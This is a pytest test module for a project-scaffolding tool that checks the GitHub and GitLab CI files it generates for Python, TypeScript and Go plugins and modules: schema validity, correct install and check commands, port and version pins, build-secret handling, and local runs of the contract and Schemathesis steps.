"""The CI files of freshly scaffolded projects: valid for their CI system and true to the project.

Each kind ships `.github/workflows/ci.yml` and `.gitlab-ci.yml` (template-owned), a plugin in
each of its service languages (Python, TypeScript). Here they must pass check-jsonschema's
vendored schemas (the schemas GitHub and GitLab publish), run exactly the registry's install and
checks of each part's language, and name what the project really has: npm scripts of its
package.json, its package, the port its settings default to, the scaffold version it records, the
recorded spec. The plugin's contract step (start the service, wait for /healthz, `scaffold check
plugin`) is run here as CI would run it, and so is the TypeScript plugin's Schemathesis step (a
Python plugin runs Schemathesis in its own pytest). A project made before CI files existed
(template 1.3.0) gains them, and the version, on upgrade.

The TypeScript and Go plugins are the examples test_plugin_typescript.py and test_plugin_go.py
read, made and built once per run (tests/built_plugins.py: the registry's install and checks, then
BUILD); a test that runs a CI block works on a copy of its own.
"""

from __future__ import annotations

import contextlib
import dataclasses
import functools
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from scaffold import DISTRIBUTION, __version__
from scaffold.contracts import KIND_NAMES, LANGUAGES
from scaffold.errors import ProjectError
from scaffold.projects import create
from scaffold.projects import upgrade as upgrade_module
from scaffold.projects.create import NewProjectOptions, create_project
from scaffold.projects.kinds import KINDS
from scaffold.projects.regenerate import regenerate
from scaffold.projects.state.manifest import SPEC_COPY_PATH
from scaffold.projects.templates.store import TemplateSource
from scaffold.projects.upgrade import upgrade
from tests.built_module_backends import START as MODULE_START
from tests.built_module_backends import built_module
from tests.built_plugins import BUILD, built_plugin, copy_project
from tests.cli_runner import run_scaffold
from tests.conftest import REPO
from tests.git_helpers import git
from tests.go_toolchain import go_environment
from tests.served_process import free_port

BIN = Path(sys.executable).parent
GITHUB = ".github/workflows/ci.yml"
GITLAB = ".gitlab-ci.yml"
CI_FILES = {GITHUB: "vendor.github-workflows", GITLAB: "vendor.gitlab-ci"}
KIND_OF = {"acme-sales": "plugin", "acme-map": "module"}  # project name -> kind
PLUGIN_LANGUAGES = KIND_NAMES["plugin"].service_languages  # ("python", "typescript")
# The command the CI starts each plugin service with (`npm start` would build again, and npm as
# the parent would keep the `kill` from reaching node).
START = {"python": "python -m {package}", "typescript": "node dist/main.js", "go": "./bin/plugin"}
# Fewer log lines in service.log: the level names differ (pino's `warn`, Python's `warning`).
QUIET = {
    "python": {"LOG_LEVEL": "warning"},
    "typescript": {"LOG_LEVEL": "warn"},
    "go": {"LOG_LEVEL": "warning"},
}
# The commands of a language's own tools in a CI file (the registry's install and checks are among them).
TOOL_LINE = {"typescript": r"npm ", "go": r"(go|make) "}
OLD_TEMPLATE = "1.3.0"  # the last template version without CI files or the scaffold_version answer
LATER = "7.8.9rc1"  # a scaffold version unlike the template's default answer, to see where it came from


@dataclasses.dataclass(frozen=True)
class Made:
    """A scaffolded project and what its CI files must agree with."""

    root: Path
    kind: str
    package: str
    python_root: Path  # where pyproject.toml is: the project (plugin) or backend/ (module)
    language: str = "python"  # the language of the service part

    def parts(self) -> list[tuple[str, str]]:
        """(role, language) of each part of the project: the registry's, the service in its language."""
        return [
            (part.role, self.language if part.role == "service" else part.language)
            for part in KIND_NAMES[self.kind].parts
        ]

    @property
    def start(self) -> str:
        """How CI starts the service, from the project's root (a module's compiled backend is in
        backend/; a Python one is installed)."""
        if self.kind == "module" and self.language != "python":  # as tests/built_module_backends.py starts it
            *program, path = MODULE_START[self.language]
            return " ".join([*program, "backend/" + path.removeprefix("./")])
        return START[self.language].format(package=self.package)

    def text(self, relative: str) -> str:
        return (self.root / relative).read_text(encoding="utf-8")

    def ci(self, relative: str) -> dict[str, Any]:
        data = yaml.safe_load(self.text(relative))
        assert isinstance(data, dict)
        return data

    def answers(self) -> dict[str, Any]:
        data = yaml.safe_load(self.text(".copier-answers.yml"))
        assert isinstance(data, dict)
        return data


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The same isolated scaffold home as tests/conftest.py, for module-scoped projects."""
    folder = tmp_path_factory.getbasetemp() / "scaffold-home"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SCAFFOLD_HOME", str(folder))
        yield folder


def _make(kind: str, home: Path, factory: pytest.TempPathFactory, language: str = "python") -> Made:
    name = next(n for n, k in KIND_OF.items() if k == kind)
    root = factory.mktemp(f"{kind}-{language}") / name
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SCAFFOLD_HOME", str(home))
        create_project(
            NewProjectOptions(kind=KINDS[kind].for_language(language), destination=root, answers={})
        )
    python_root = root if kind == "plugin" else root / "backend"
    return Made(root, kind, name.replace("-", "_"), python_root, language)


@pytest.fixture(scope="module")
def plugin(home: Path, tmp_path_factory: pytest.TempPathFactory) -> Made:
    return _make("plugin", home, tmp_path_factory)


@pytest.fixture(scope="module")
def plugin_typescript(tmp_path_factory: pytest.TempPathFactory) -> Made:
    """The TypeScript plugin, installed (`npm ci`) and built (BUILD) as its CI's contract job does
    before it starts it; shared with test_plugin_typescript.py, so read only."""
    root = built_plugin("typescript", tmp_path_factory)
    return Made(root, "plugin", root.name.replace("-", "_"), root, "typescript")


@pytest.fixture(scope="module")
def plugin_go(tmp_path_factory: pytest.TempPathFactory) -> Made:
    """The Go plugin, installed (`go mod download`) and built (BUILD) as its CI's contract job does
    before it starts it; shared with test_plugin_go.py, so read only."""
    root = built_plugin("go", tmp_path_factory)
    return Made(root, "plugin", root.name.replace("-", "_"), root, "go")


@pytest.fixture(scope="module")
def module(home: Path, tmp_path_factory: pytest.TempPathFactory) -> Made:
    return _make("module", home, tmp_path_factory)


@pytest.fixture(scope="module")
def module_typescript(tmp_path_factory: pytest.TempPathFactory) -> Made:
    """The module with its backend in TypeScript, the backend installed, checked and built as its
    CI does (tests/built_module_backends.py); shared with test_module_backends.py, so read only."""
    root = built_module("typescript", tmp_path_factory)
    return Made(root, "module", root.name.replace("-", "_"), root / "backend", "typescript")


@pytest.fixture(scope="module")
def module_go(tmp_path_factory: pytest.TempPathFactory) -> Made:
    """The module with its backend in Go, the backend checked and built as its CI does
    (tests/built_module_backends.py); shared with test_module_backends.py, so read only."""
    root = built_module("go", tmp_path_factory)
    return Made(root, "module", root.name.replace("-", "_"), root / "backend", "go")


@pytest.fixture(params=["python", "typescript", "go"])
def any_plugin(request: pytest.FixtureRequest) -> Made:
    """The plugin in each of its service languages."""
    project = request.getfixturevalue("plugin" if request.param == "python" else f"plugin_{request.param}")
    assert isinstance(project, Made)
    return project


@pytest.fixture(
    params=["plugin", "plugin_typescript", "plugin_go", "module", "module_typescript", "module_go"]
)
def made(request: pytest.FixtureRequest) -> Made:
    project = request.getfixturevalue(request.param)
    assert isinstance(project, Made)
    return project


def shell_lines(relative: str, data: dict[str, Any]) -> list[str]:
    """Every shell command of a CI file (GitHub `run:`, GitLab `script:` and friends), line by line."""
    blocks: list[str] = []
    if relative == GITHUB:
        for job in data["jobs"].values():
            blocks += [step["run"] for step in job["steps"] if "run" in step]
    else:
        for job in gitlab_jobs(data).values():
            for key in ("before_script", "script", "after_script"):
                blocks += job.get(key, [])
    return [line.strip() for block in blocks for line in block.splitlines() if line.strip()]


def gitlab_jobs(data: dict[str, Any]) -> dict[str, dict[str, Any]]:
    keywords = {"stages", "variables", "default", "workflow", "include", "image", "services", "cache"}
    return {name: job for name, job in data.items() if name not in keywords and not name.startswith(".")}


def scaffold_requirement(relative: str, data: dict[str, Any]) -> str:
    """The requirement CI installs scaffold from when nobody overrides SCAFFOLD_PACKAGE."""
    if relative == GITHUB:
        expression = data["env"]["SCAFFOLD_PACKAGE"]
        found = re.fullmatch(r"\$\{\{ vars\.SCAFFOLD_PACKAGE \|\| '([^']+)' \}\}", expression)
        assert found, f"{relative}: SCAFFOLD_PACKAGE is not `vars.SCAFFOLD_PACKAGE || '<pin>'`: {expression}"
        return found[1]
    value = data["variables"]["SCAFFOLD_PACKAGE"]["value"]
    assert isinstance(value, str)
    return value


@functools.cache  # one project, one answer: asked by several tests
def settings_port(made: Made) -> int:
    """The port the project's own settings default to (imported, not read as text)."""
    if made.language == "typescript":  # the built settings module, as `node dist/main.js` loads it
        code = "import('./dist/settings.js').then((m) => console.log(m.loadSettings({}).port))"
        command = ["node", "-e", code]
    elif made.language == "go":  # internal/settings, loaded by a throwaway main in the module
        return _go_settings_port(made)
    else:
        code = f"from {made.package}.settings import Settings; print(Settings.from_env({{}}).port)"
        command = [sys.executable, "-c", code]
    result = subprocess.run(command, cwd=made.python_root, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    return int(result.stdout)


def _go_settings_port(made: Made) -> int:
    """internal/settings loaded by a throwaway main, in a copy: the built project is shared. The Go
    module is the plugin's root or the module's backend/ (python_root: where its go.mod is); a
    plugin's Load takes a getenv, a module backend's a lookup (os.LookupEnv: set-but-empty differs)."""
    lookup = 'func(string) (string, bool) { return "", false }'
    getenv = lookup if made.kind == "module" else 'func(string) string { return "" }'
    with tempfile.TemporaryDirectory() as scratch:
        module = shutil.copytree(
            made.python_root, Path(scratch) / made.root.name, ignore=shutil.ignore_patterns("bin")
        )
        probe = module / "_portprobe"
        probe.mkdir()
        (probe / "main.go").write_text(
            f'package main\n\nimport (\n\t"fmt"\n\n\t"{made.root.name}/internal/settings"\n)\n\n'
            f"func main() {{\n\ts, err := settings.Load({getenv})\n"
            "\tif err != nil {\n\t\tpanic(err)\n\t}\n\tfmt.Println(s.Port)\n}\n",
            encoding="utf-8",
        )
        result = subprocess.run(
            ["go", "run", "./_portprobe"],
            cwd=module,
            capture_output=True,
            text=True,
            check=False,
            env=go_environment(),
        )
    assert result.returncode == 0, result.stderr
    return int(result.stdout)


@pytest.mark.parametrize("relative", sorted(CI_FILES))
def test_ci_file_passes_the_vendored_schema(made: Made, relative: str) -> None:
    """check-jsonschema's own command with its vendored schema, run in this process: as a
    subprocess its start-up (0.4 s of CPU) was nearly all of each case's cost."""
    from check_jsonschema.cli.main_command import main  # imported by the tests that use it

    result = CliRunner().invoke(main, ["--builtin-schema", CI_FILES[relative], str(made.root / relative)])
    assert result.exit_code == 0, f"{result.output}{result.exception!r}"


@pytest.mark.parametrize("relative", sorted(CI_FILES))
def test_ci_runs_the_projects_own_commands(made: Made, relative: str) -> None:
    lines = shell_lines(relative, made.ci(relative))
    for role, name in made.parts():  # each part's own checks, as the registry names them
        language = LANGUAGES[name]
        assert any(line.startswith(language.install) for line in lines), (
            f"{relative}: no `{language.install}`"
        )
        for check in language.checks:
            command = check.format(package=made.package)
            assert command in lines, f"{relative} does not run `{command}` ({role}, {name})"
    for command in ["scaffold regenerate --check", 'pip install "$SCAFFOLD_PACKAGE"']:
        assert command in lines, f"{relative} does not run `{command}`"
    assert f"{made.start} > service.log 2>&1 &" in lines
    for line in lines:
        for named in re.findall(r"\b(?:mypy|python -m) ([A-Za-z_][\w.]*)", line):
            assert named == made.package, (
                f"{relative}: `{line}` names {named}, not the package {made.package}"
            )
    assert any(line.startswith("docker build") for line in lines), relative
    assert any(line.endswith(f"-t {made.root.name}:ci .") for line in lines), relative


@pytest.mark.parametrize("language", sorted(BUILD))
@pytest.mark.parametrize("relative", sorted(CI_FILES))
def test_compiled_plugin_ci_runs_exactly_the_registrys_commands(
    language: str, relative: str, request: pytest.FixtureRequest
) -> None:
    """Each job of a TypeScript or Go plugin installs exactly as the registry says (`npm ci`, so
    package-lock.json decides; `go mod download`), the checks job runs the registry's checks in their
    order, and a job that starts the service builds it first; npm is never asked to install a named
    package, and go never to get one."""
    plugin: Made = request.getfixturevalue(f"plugin_{language}")
    named = LANGUAGES[language]
    data = plugin.ci(relative)
    if relative == GITHUB:
        jobs = {name: [s["run"] for s in job["steps"] if "run" in s] for name, job in data["jobs"].items()}
    else:
        jobs = {name: job.get("script", []) for name, job in gitlab_jobs(data).items()}
    by_job = {
        name: [ln.strip() for b in blocks for ln in b.splitlines() if ln.strip()]
        for name, blocks in jobs.items()
    }
    tools = {
        name: [ln for ln in lines if re.match(TOOL_LINE[language], ln)] for name, lines in by_job.items()
    }
    assert tools["test"] == [named.install, *named.checks], f"{relative}: job test runs {tools['test']}"
    starting = [name for name, lines in by_job.items() if f"{plugin.start} > service.log 2>&1 &" in lines]
    assert sorted(starting) == ["conformance", "contract"], starting
    for name in starting:
        assert tools[name] == [named.install, BUILD[language]], f"{relative}: job {name} runs {tools[name]}"
    for name, lines in tools.items():
        assert not [ln for ln in lines if re.match(r"(npm (install|i|add)|go (get|install))\b", ln)], (
            f"{relative}: {name}"
        )


@pytest.mark.parametrize("relative", sorted(CI_FILES))
def test_contract_check_uses_the_settings_port_and_the_recorded_spec(made: Made, relative: str) -> None:
    text = made.text(relative)
    port = settings_port(made)
    url = f"http://127.0.0.1:{port}" + ("/api/v1" if made.kind == "plugin" else "")
    command = f"scaffold check {made.kind} {url} --spec {SPEC_COPY_PATH}"
    lines = shell_lines(relative, made.ci(relative))
    assert any(line == command or line.startswith(command + " ") for line in lines), lines
    assert f"http://127.0.0.1:{port}/healthz" in text
    assert set(re.findall(r"127\.0\.0\.1:(\d+)", text)) == {str(port)}, f"{relative} uses another port"
    assert set(re.findall(r"\bPORT: \"(\d+)\"", text)) == {str(port)}, f"{relative} sets PORT otherwise"


@pytest.mark.parametrize("relative", sorted(CI_FILES))
def test_scaffold_pin_is_the_recorded_version(made: Made, relative: str) -> None:
    recorded = made.answers()["scaffold_version"]
    assert recorded == __version__
    extra = "[check]" if made.kind == "module" else ""  # scaffold check module drives Chromium
    assert scaffold_requirement(relative, made.ci(relative)) == f"{DISTRIBUTION}{extra}=={recorded}"


@pytest.mark.parametrize("language", PLUGIN_LANGUAGES)
def test_new_project_records_the_running_scaffold_version(
    language: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The answer comes from the scaffold that runs, not from the template's default."""
    monkeypatch.setattr(create, "__version__", LATER)
    project = tmp_path / "acme-sales"
    kind = KINDS["plugin"].for_language(language)
    create_project(NewProjectOptions(kind=kind, destination=project, answers={}))
    answers = yaml.safe_load((project / ".copier-answers.yml").read_text(encoding="utf-8"))
    assert answers["scaffold_version"] == LATER
    for relative in CI_FILES:
        data = yaml.safe_load((project / relative).read_text(encoding="utf-8"))
        assert scaffold_requirement(relative, data) == f"{DISTRIBUTION}=={LATER}"


@pytest.mark.parametrize(
    ("project", "package_json", "needed"),
    [
        ("module", "frontend/package.json", {"check-registry", "lint", "typecheck", "test", "build"}),
        ("plugin_typescript", "package.json", {"lint", "typecheck", "test", "build"}),
    ],
)
def test_npm_scripts_exist_in_package_json(
    project: str, package_json: str, needed: set[str], request: pytest.FixtureRequest
) -> None:
    made = request.getfixturevalue(project)
    scripts = yaml.safe_load(made.text(package_json))["scripts"]
    for relative in CI_FILES:
        lines = shell_lines(relative, made.ci(relative))
        named = [n for line in lines for n in re.findall(r"\bnpm run ([\w:-]+)", line)]
        named += ["test" for line in lines if re.match(r"npm test\b", line)]
        assert needed <= set(named), relative
        missing = sorted(set(named) - set(scripts))
        assert not missing, f"{relative} runs npm scripts that {package_json} lacks: {missing}"


def test_module_registry_credentials_reach_npm_and_the_image_build(module: Made) -> None:
    """The variables frontend/.npmrc reads are the CI secrets and the Dockerfile's build secrets."""
    settings = [line for line in module.text("frontend/.npmrc").splitlines() if not line.startswith("#")]
    npmrc = {name for line in settings for name in re.findall(r"\$\{(\w+)\}", line)}
    mounted = set(re.findall(r"--mount=type=secret,id=(\w+)", module.text("Dockerfile")))
    assert npmrc and npmrc == mounted, (npmrc, mounted)
    github = module.ci(GITHUB)["jobs"]
    assert set(github["frontend"]["env"]) == npmrc
    for key in npmrc:
        assert github["frontend"]["env"][key] == f"${{{{ secrets.{key} }}}}"
    build = next(s for s in github["container-image"]["steps"] if "docker build" in s.get("run", ""))
    assert set(build["env"]) == npmrc
    for relative in CI_FILES:
        text = module.text(relative)
        passed = set(re.findall(r"--secret id=(\w+),env=\1\b", text))
        assert passed == npmrc, f"{relative} passes build secrets {sorted(passed)}, not {sorted(npmrc)}"
        assert "--build-arg" not in text, f"{relative}: credentials as build args stay in the image history"


def test_github_actions_are_pinned_to_major_versions(made: Made) -> None:
    data = made.ci(GITHUB)
    uses = [step["uses"] for job in data["jobs"].values() for step in job["steps"] if "uses" in step]
    assert uses and all(re.fullmatch(r"actions/[a-z-]+@v\d+", u) for u in uses), uses
    assert {j["runs-on"] for j in data["jobs"].values()} == {"ubuntu-24.04"}


def test_gitlab_images_name_a_version(made: Made) -> None:
    data = made.ci(GITLAB)
    jobs = gitlab_jobs(data)
    images = [data["default"]["image"], *(job["image"] for job in jobs.values() if "image" in job)]
    images += [service for job in jobs.values() for service in job.get("services", [])]
    for image in images:
        tag = image.partition(":")[2]
        assert re.fullmatch(r"\d+(\.\d+)*(-[a-z]+)?", tag), f"{GITLAB}: image {image} has no version tag"


@pytest.fixture(params=["module", "module_typescript", "module_go"])
def any_module(request: pytest.FixtureRequest) -> Made:
    """The module with its backend in each of its languages."""
    project = request.getfixturevalue(request.param)
    assert isinstance(project, Made)
    return project


def test_module_contract_job_serves_the_frontend_build(any_module: Made) -> None:
    """The contract job gets frontend/dist from the frontend job, serves it, and has a Chromium."""
    module = any_module
    github = module.ci(GITHUB)["jobs"]
    upload = next(s for s in github["frontend"]["steps"] if s.get("uses", "").startswith("actions/upload"))
    download = next(
        s for s in github["contract"]["steps"] if s.get("uses", "").startswith("actions/download")
    )
    assert github["contract"]["needs"] == "frontend"
    assert download["with"]["name"] == upload["with"]["name"]
    assert download["with"]["path"] == upload["with"]["path"] == "frontend/dist/"
    assert github["contract"]["env"]["SCAFFOLD_CHROMIUM"] == "/opt/google/chrome/chrome"
    gitlab = gitlab_jobs(module.ci(GITLAB))
    assert gitlab["contract"]["needs"] == [{"job": "frontend", "artifacts": True}]
    assert gitlab["frontend"]["artifacts"]["paths"] == ["frontend/dist/"]
    extended = gitlab["contract"].get("extends")  # the hidden job that sets up the backend's tools
    before = gitlab["contract"].get("before_script") or module.ci(GITLAB)[extended]["before_script"]
    installs = " ".join(before)
    chromium = "chromium" if module.language == "python" else "python3-venv $EXTRA_PACKAGES"
    assert f"apt-get install -y --no-install-recommends {chromium}" in installs
    if module.language != "python":
        assert gitlab["contract"]["variables"]["EXTRA_PACKAGES"] == "chromium"
    steps = [s for s in github["contract"]["steps"] if "scaffold check module" in s.get("run", "")]
    for env in (steps[0]["env"], gitlab["contract"]["variables"]):
        assert env["MODULE_FRONTEND_DIST"] == "frontend/dist"


CHECK = "scaffold check "  # in the block that starts the service and plays the platform against it
SCHEMATHESIS = "schemathesis "  # in the block that starts the service and runs Schemathesis against it


def _contract_block(relative: str, data: dict[str, Any], marker: str = CHECK) -> str:
    """The shell block that starts the service and runs `scaffold check` (or `marker`) against it."""
    if relative == GITHUB:
        blocks = [s["run"] for job in data["jobs"].values() for s in job["steps"] if "run" in s]
    else:
        blocks = [line for job in gitlab_jobs(data).values() for line in job.get("script", [])]
    found = [b for b in blocks if marker in b]
    assert len(found) == 1, f"{relative}: {len(found)} blocks run {marker.strip()}"
    return found[0]


def _run_contract_block(
    project: Path, home: Path, tmp_path: Path, shell: str, extra_env: dict[str, str], marker: str = CHECK
) -> tuple[int, str]:
    """`scaffold regenerate --check`, then the very block both CI files run, with `shell -e`.

    Only the port moves (a free one, as PORT and in the URLs), so parallel tests cannot collide.
    """
    block = _contract_block(GITHUB, yaml.safe_load((project / GITHUB).read_text(encoding="utf-8")), marker)
    port = free_port()
    script = "scaffold regenerate --check\n" + block.replace("127.0.0.1:8080", f"127.0.0.1:{port}")
    env = {
        **os.environ,
        "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",  # this venv's python, scaffold, schemathesis
        "PYTHONPATH": str(REPO),  # the scaffold of this checkout
        "PORT": str(port),
        "PLUGIN_STATE_DIR": str(tmp_path / "state"),
        "SCAFFOLD_HOME": str(home),
        **QUIET["python"],
        **extra_env,
    }
    process = subprocess.Popen(
        [shell, "-e", "-c", script],
        cwd=project,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        start_new_session=True,
    )
    try:
        output, _ = process.communicate(timeout=240)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)  # the service and stand-ins, if the block stopped early
    log = (project / "service.log").read_text(encoding="utf-8", errors="replace")
    return process.returncode, output + "\nservice.log:\n" + log[-2000:]


def test_plugin_contract_step_runs_as_ci_runs_it(any_plugin: Made, home: Path, tmp_path: Path) -> None:
    plugin = any_plugin
    assert _contract_block(GITHUB, plugin.ci(GITHUB)) == _contract_block(GITLAB, plugin.ci(GITLAB)), (
        "the two CI files run different blocks"
    )
    project = copy_project(plugin.root, tmp_path / "project")
    code, output = _run_contract_block(project, home, tmp_path, "bash", QUIET[plugin.language])
    assert code == 0, output[-4000:]
    assert "contract-owned files are up to date" in output
    assert re.search(r"\n\d+ passed, 0 failed", output), output[-2000:]


# The example data source asks every call for the key in EXAMPLE_DB_ACCESS_KEY when it is set: a
# plugin whose backend needs a secret. The CI files are left exactly as generated.
KEY = {"EXAMPLE_DB_ACCESS_KEY": "s3cret-from-ci"}
STAND_IN = """\
# ours: a stand-in of the service our plugin calls, and what the plugin and the form values read
python3 -m http.server 0 --bind 127.0.0.1 --directory ci > stand-in.log 2>&1 &
export EXAMPLE_DB_ACCESS_KEY=s3cret-from-a-stand-in
"""


REAL_BACKEND_CASES = {
    "found-no-config": ("found: a secret the check cannot know", {}, KEY, False),
    "config-file": (
        "the form values in ci/check-config.json",
        {"check-config.json": '{"accessKey": "${EXAMPLE_DB_ACCESS_KEY}"}'},
        KEY,
        True,
    ),
    "check-config-secret": (
        "the secret CHECK_CONFIG",
        {},
        {**KEY, "CHECK_CONFIG": '{"accessKey": "s3cret-from-ci"}'},
        True,
    ),
    "before-check-stand-in": (
        "ci/before-check.sh starts a stand-in",
        {"before-check.sh": STAND_IN, "check-config.json": '{"accessKey": "${EXAMPLE_DB_ACCESS_KEY}"}'},
        {},
        True,
    ),
}
# GitHub's run: is bash, GitLab's python image runs sh. Every branch of the block passes in both
# shells through these two: ci/before-check.sh sourced and ci/check-config.json given (`set --
# --config-file ...`, then "$@"), and neither (an empty "$@" adds no argument). The other two cases
# differ from these in what scaffold is given, not in what the shell does: bash runs them.
BOTH_SHELLS = ("check-config-secret", "before-check-stand-in")


@pytest.mark.parametrize(
    ("shell", "case", "files", "extra_env", "passes"),
    [
        pytest.param(shell, *REAL_BACKEND_CASES[name], id=f"{shell}-{name}")
        for shell in ("bash", "sh")
        for name in REAL_BACKEND_CASES
        if shell == "bash" or name in BOTH_SHELLS
    ],
)
def test_a_plugin_with_a_real_backend_passes_ci_through_its_own_files(
    plugin: Made,
    home: Path,
    tmp_path: Path,
    case: str,
    files: dict[str, str],
    extra_env: dict[str, str],
    passes: bool,
    shell: str,
) -> None:
    """Found: the generated CI ran `scaffold check plugin` without `--config` and without the
    plugin's backend, so a plugin whose health check needs a service or a secret failed three
    checks, and the author had to edit the template-owned CI file. Now the CI file, as generated,
    takes them from the project's own `ci/` files and the CI secret CHECK_CONFIG."""
    project = shutil.copytree(plugin.root, tmp_path / "project")
    for name, text in files.items():
        (project / "ci" / name).write_text(text, encoding="utf-8")
    code, output = _run_contract_block(project, home, tmp_path, shell, extra_env)
    if passes:
        assert code == 0, f"{case}:\n{output[-4000:]}"
        assert re.search(r"\n\d+ passed, 0 failed", output), output[-2000:]
    else:
        assert code != 0 and "FAIL  health-check.valid-config" in output, f"{case}:\n{output[-4000:]}"


# The TypeScript and Go starters' forms have no field a check could need, so its ci/ files are shown to be read
# by what they break: a setting the plugin refuses, form values scaffold refuses.
TS_CI_FILES = [
    pytest.param(
        {"before-check.sh": "export PLUGIN_MAX_BODY_BYTES=lots\n"},
        {},
        "PLUGIN_MAX_BODY_BYTES must be a whole number",
        id="before-check-is-sourced",
    ),
    pytest.param({"check-config.json": "[1, 2]"}, {}, "check-config.json", id="check-config-is-read"),
    pytest.param({}, {"CHECK_CONFIG": "[1, 2]"}, "CHECK_CONFIG", id="check-config-secret-is-read"),
]


@pytest.mark.parametrize("language", sorted(BUILD))
def test_compiled_plugins_run_the_python_plugins_contract_block(
    language: str, plugin: Made, request: pytest.FixtureRequest
) -> None:
    """The contract block of the TypeScript and Go plugins is the Python plugin's but for the command
    that starts the service, in both CI files, and bash and sh both parse it: so what that block is
    shown to do in each shell (test_a_plugin_with_a_real_backend_passes_ci_through_its_own_files)
    it does for them, and their own runs need one shell each (bash for the contract step, sh for
    the ci/ files and the Schemathesis step)."""
    compiled: Made = request.getfixturevalue(f"plugin_{language}")
    for relative in CI_FILES:
        block = _contract_block(relative, compiled.ci(relative))
        assert block.count(compiled.start) == 1, f"{relative}: {block}"
        assert block.replace(compiled.start, plugin.start) == _contract_block(relative, plugin.ci(relative))
        for shell in ("bash", "sh"):
            parsed = subprocess.run([shell, "-n", "-c", block], capture_output=True, text=True, check=False)
            assert parsed.returncode == 0, f"{relative}, {shell}: {parsed.stderr}"


@pytest.mark.parametrize("language", sorted(BUILD))
@pytest.mark.parametrize(("files", "extra_env", "said"), TS_CI_FILES)
def test_compiled_plugin_ci_reads_its_own_ci_files(
    language: str,
    home: Path,
    tmp_path: Path,
    files: dict[str, str],
    extra_env: dict[str, str],
    said: str,
    request: pytest.FixtureRequest,
) -> None:
    """The contract block of the TypeScript and Go plugins sources ci/before-check.sh before it
    starts the service and gives ci/check-config.json and CHECK_CONFIG to the check, as the Python
    one does. Run in sh (GitLab's node and golang images); the block is the Python plugin's, which
    does the same in bash and sh (test_compiled_plugins_run_the_python_plugins_contract_block)."""
    plugin: Made = request.getfixturevalue(f"plugin_{language}")
    project = copy_project(plugin.root, tmp_path / "project")
    for name, text in files.items():
        (project / "ci" / name).write_text(text, encoding="utf-8")
    code, output = _run_contract_block(project, home, tmp_path, "sh", {**QUIET[language], **extra_env})
    assert code != 0 and said in output, output[-4000:]


def test_python_plugin_runs_schemathesis_in_its_pytest(plugin: Made) -> None:
    """The twin of the TypeScript plugin's conformance job: the Python plugin's own tests run
    Schemathesis in-process (tests/test_conformance.py), installed by its `test` extra."""
    assert (plugin.root / "tests" / "test_conformance.py").is_file()
    assert "schemathesis" in _schemathesis_requirement(plugin)
    for relative in CI_FILES:
        assert "pytest" in shell_lines(relative, plugin.ci(relative))


def _schemathesis_requirement(plugin: Made) -> str:
    """The Schemathesis requirement of the Python plugin's `test` extra (pyproject.toml)."""
    extra = tomllib.loads(plugin.text("pyproject.toml"))["project"]["optional-dependencies"]["test"]
    (found,) = [r for r in extra if re.match(r"schemathesis\b", r)]
    assert isinstance(found, str)
    return found


MANIFESTS = {"typescript": ("package.json", "package-lock.json"), "go": ("go.mod",)}


@pytest.mark.parametrize("language", sorted(BUILD))
@pytest.mark.parametrize("relative", sorted(CI_FILES))
def test_compiled_plugin_runs_schemathesis_as_a_ci_tool(
    language: str, plugin: Made, relative: str, request: pytest.FixtureRequest
) -> None:
    """Schemathesis is installed by CI (the Python plugin's requirement), never by npm or go; it runs
    the recorded contract against the started service with schemathesis.toml, whose settings are
    the Python plugin's."""
    compiled: Made = request.getfixturevalue(f"plugin_{language}")
    data = compiled.ci(relative)
    variables = data["env"] if relative == GITHUB else data["variables"]
    assert variables["SCHEMATHESIS_PACKAGE"] == _schemathesis_requirement(plugin)
    assert 'pip install "$SCHEMATHESIS_PACKAGE"' in shell_lines(relative, data)
    block = _contract_block(relative, data, SCHEMATHESIS)
    assert f"{compiled.start} > service.log 2>&1 &" in block
    words = block.replace("\\\n", " ").split("schemathesis ", 1)[1].splitlines()[0].split()
    url = f"http://127.0.0.1:{settings_port(compiled)}/api/v1"
    assert words == ["--config-file", "schemathesis.toml", "run", SPEC_COPY_PATH, "--url", url], words
    for manifest in MANIFESTS[language]:
        assert "schemathesis" not in compiled.text(manifest).lower(), manifest
    ours = tomllib.loads(compiled.text("schemathesis.toml"))
    assert ours == tomllib.loads(plugin.text("schemathesis.toml")), "settings differ from the Python plugin's"


@pytest.mark.parametrize("language", sorted(BUILD))
def test_compiled_plugin_schemathesis_step_runs_as_ci_runs_it(
    language: str, home: Path, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    compiled: Made = request.getfixturevalue(f"plugin_{language}")
    github, gitlab = (compiled.ci(relative) for relative in (GITHUB, GITLAB))
    if _contract_block(GITHUB, github, SCHEMATHESIS) != _contract_block(GITLAB, gitlab, SCHEMATHESIS):
        pytest.fail("the two CI files run different Schemathesis blocks")
    project = copy_project(compiled.root, tmp_path / "project")
    code, output = _run_contract_block(project, home, tmp_path, "sh", QUIET[language], SCHEMATHESIS)
    if "Seed: 20260101" not in output or not re.search(r"Selected: (\d+)/\1\b", output):
        pytest.fail(f"Schemathesis did not run every operation with schemathesis.toml:\n{output[-4000:]}")
    assert code == 0, output[-6000:]


@pytest.mark.parametrize("kind", ["plugin", "module"])
def test_project_of_the_old_template_gains_ci_and_the_version_on_upgrade(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Template 1.3.0 had neither; the project keeps working without the answer, and upgrade adds both."""
    real = create.planned_store

    def old_store(name: str) -> TemplateSource:
        return dataclasses.replace(real(name), version=OLD_TEMPLATE)

    monkeypatch.setattr(create, "planned_store", old_store)
    project = tmp_path / next(n for n, k in KIND_OF.items() if k == kind)
    create_project(NewProjectOptions(kind=KINDS[kind], destination=project, answers={}))
    monkeypatch.setattr(create, "planned_store", real)
    before = yaml.safe_load((project / ".copier-answers.yml").read_text(encoding="utf-8"))
    assert before["_commit"] == f"v{OLD_TEMPLATE}" and "scaffold_version" not in before
    assert not (project / GITHUB).exists() and not (project / GITLAB).exists()
